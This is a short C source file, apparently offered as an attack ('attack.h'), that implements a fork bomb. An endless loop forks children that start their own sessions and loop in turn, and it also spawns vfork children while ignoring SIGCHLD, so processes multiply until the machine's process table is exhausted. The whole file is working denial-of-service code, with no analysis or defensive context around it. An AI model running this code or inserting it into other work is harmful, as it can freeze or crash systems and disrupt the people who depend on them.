#include "attack.h"

// Every process makes new ones, in sessions of their own, and none ever waits.
int main(void) {
    signal(SIGCHLD, SIG_IGN);
    for (;;) {
        if (fork() == 0) setsid();
        for (int i = 0; i < 4; i++) vfork() == 0 ? _exit(0) : (void)0;
    }
}
